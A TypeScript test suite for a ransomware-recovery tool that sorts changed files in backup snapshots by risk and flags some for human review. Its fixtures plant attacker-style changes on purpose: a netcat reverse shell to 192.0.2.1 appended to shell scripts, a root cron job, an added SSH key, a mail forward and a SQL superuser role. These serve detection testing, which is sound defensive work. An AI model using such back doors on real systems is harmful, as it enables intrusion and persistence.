import assert from 'node:assert/strict'
import { randomBytes } from 'node:crypto'
import { chmodSync, rmSync } from 'node:fs'
import { join } from 'node:path'
import { test } from 'node:test'

import { detectHistory } from '../../detect/index.ts'
import { planRecovery } from '../plan-recovery.ts'
import { type Ground, ground, memory, snapshot, write } from '../recovery.fixture.ts'
import { buildQueue, type CaseQueue } from './build-queue.ts'
import { compareVersions } from './compare-versions.ts'
import { needsPerson } from './queue-group.ts'
import { riskWindow } from './risk-window.ts'

const prose = 'Sehr geehrte Damen und Herren, anbei unser Angebot für das kommende Jahr.\n'.repeat(60)

async function queueOf(
  place: Ground,
  more: { hours?: number; withConvicted?: boolean } = {},
): Promise<CaseQueue> {
  const report = await detectHistory(place.repository)
  const plan = await planRecovery(place.repository, report)
  const snapshots = await place.repository.listSnapshots()
  const window = riskWindow(report, { declaredOnset: snapshots.at(-1)?.time, hours: more.hours ?? 72 })
  return buildQueue(place.repository, report, { plan, window, ...more })
}

/** Every listed file as `path: class planned`. */
function listed({ units }: CaseQueue): string[] {
  return units
    .flatMap(({ groups }) =>
      groups.flatMap(({ items, planned, class: one }) =>
        items.map(({ path }) => `${path}: ${one} ${planned}`),
      ),
    )
    .sort()
}

test('every change has the class of what it can do and of what detection says', async (t) => {
  const place = await ground(t, memory)
  write(place, { 'a/letter.txt': prose, 'a/old.txt': prose, 'a/dump.sql': 'CREATE TABLE a (b int);\n' })
  for (const name of ['one', 'two', 'three']) write(place, { [`a/${name}.txt`]: `${name}\n${prose}` })
  await snapshot(place)
  write(place, {
    'a/letter.txt': `${prose}Nachtrag.\n`,
    'a/new.txt': `neu\n${prose}`,
    'a/start.sh': '#!/bin/sh\necho hello\n',
    'a/quiet': '#!/usr/bin/env python3\nprint(1)\n',
    'etc/cron.d/job': '* * * * * root /a/start.sh\n',
    'home/x/.ssh/authorized_keys': 'ssh-ed25519 AAAAC3Nza x\n',
    'home/x/.forward': 'y@example.org\n',
    'a/dump.sql': 'CREATE TABLE a (b int);\nCREATE ROLE eve SUPERUSER;\n',
    'a/strange.bin': randomBytes(5000),
  })
  for (const name of ['one', 'two', 'three']) write(place, { [`a/${name}.txt`]: randomBytes(4000) })
  await snapshot(place)
  const queue = await queueOf(place)
  assert.deepEqual(listed(queue), [
    '/a/dump.sql: N6 newest',
    '/a/letter.txt: N2 newest',
    '/a/new.txt: N1 newest',
    '/a/quiet: N5 newest',
    '/a/start.sh: N5 newest',
    '/a/strange.bin: N4 nothing',
    '/etc/cron.d/job: N5 newest',
    '/home/x/.forward: N6 newest',
    '/home/x/.ssh/authorized_keys: N5 newest',
  ])
  const [unit] = queue.units
  assert.deepEqual(unit?.files, { N0: 1, N1: 1, N2: 1, N3: 3, N4: 1, N5: 4, N6: 2 })
  assert.equal(unit?.convicted, 3)
  assert.equal(unit?.groups.filter(needsPerson).length, 7)
  const all = await queueOf(place, { withConvicted: true })
  assert.ok(listed(all).includes('/a/one.txt: N3 previous'))
  assert.equal(all.units[0]?.groups.filter(needsPerson).length, 7, 'proven encryption needs nobody')
})

test('the same backups give the same digests, and any change of a fact another one', async (t) => {
  const place = await ground(t, memory)
  write(place, { 'x.txt': prose, 'y.txt': prose })
  await snapshot(place)
  write(place, { 'run.sh': '#!/bin/sh\n', 'copy/run.sh': '#!/bin/sh\n', 'x.txt': `${prose}a` })
  await snapshot(place)
  const digests = async (): Promise<string[]> =>
    (await queueOf(place)).units.flatMap(({ groups }) => groups.map(({ facts }) => facts))
  const first = await digests()
  assert.equal(first.length, 2, 'equal contents are one group')
  assert.deepEqual(await digests(), first)
  write(place, { 'third/run.sh': '#!/bin/sh\n' })
  await snapshot(place)
  assert.equal(
    (await digests()).filter((one) => first.includes(one)).length,
    0,
    'another place, another snapshot',
  )
})

test('what changed before the window is no part of it; a right to run gained inside is', async (t) => {
  const place = await ground(t, memory)
  write(place, { 'tool.txt': prose, 'stay.txt': prose })
  await snapshot(place)
  write(place, { 'early.sh': '#!/bin/sh\n' })
  await snapshot(place)
  chmodSync(join(place.machine, 'tool.txt'), 0o755)
  await snapshot(place)
  const queue = await queueOf(place, { hours: 0 })
  assert.deepEqual(listed(queue), ['/tool.txt: N5 newest'])
  assert.equal(queue.units[0]?.files.N0, 2)
  assert.equal(queue.shortSeries, 0)
})

test('two versions side by side say what differs', async (t) => {
  const place = await ground(t, memory)
  write(place, { 'offer.txt': prose })
  await snapshot(place)
  write(place, {
    'offer.txt': Buffer.concat([Buffer.from(prose.slice(0, 100)), Buffer.of(0xff), randomBytes(8000)]),
  })
  await snapshot(place)
  const queue = await queueOf(place, { withConvicted: true })
  const [group] = queue.units.flatMap(({ groups }) => groups)
  const [item] = group?.items ?? []
  assert.ok(group !== undefined && item !== undefined)
  const view = await compareVersions(place.repository, await place.repository.listSnapshots(), item)
  assert.equal(view.previous?.structure, 'whole')
  assert.equal(view.previous?.type, 'text')
  assert.ok((view.newest.entropy ?? 0) > 7.5 && (view.previous?.entropy ?? 9) < 5)
  assert.equal(view.same?.atStart, Buffer.byteLength(prose.slice(0, 100)))
})

test('what the plan takes instead of an encrypted version is looked at too when it was written inside the window', async (t) => {
  const place = await ground(t, memory)
  const script = '#!/bin/sh\necho "a day of work"\n'.repeat(80)
  write(place, { 'run.sh': script, 'gone.sh': script, 'quiet.sh': script, 'a.txt': prose })
  await snapshot(place)
  // Two nights before: a back door. Then everything is encrypted, one file under another name.
  write(place, { 'run.sh': `${script}nc -e /bin/sh 192.0.2.1 4444\n` })
  write(place, { 'gone.sh': `${script}nc -e /bin/sh 192.0.2.1 4444\n` })
  await snapshot(place)
  for (const name of ['run.sh', 'quiet.sh', 'a.txt']) write(place, { [name]: randomBytes(4000) })
  rmSync(join(place.machine, 'gone.sh'))
  write(place, { 'gone.sh.locked': randomBytes(4000) })
  await snapshot(place)
  const queue = await queueOf(place)
  assert.deepEqual(
    listed(queue).filter((line) => line.includes('N5')),
    ['/gone.sh: N5 newest', '/run.sh: N5 newest'],
  )
  const groups = queue.units.flatMap((unit) => unit.groups).filter((group) => group.class === 'N5')
  assert.ok(groups.every(needsPerson))
  const [first] = await place.repository.listSnapshots()
  for (const { items } of groups)
    for (const { previous } of items) assert.equal(previous?.snapshot, first?.id)
})
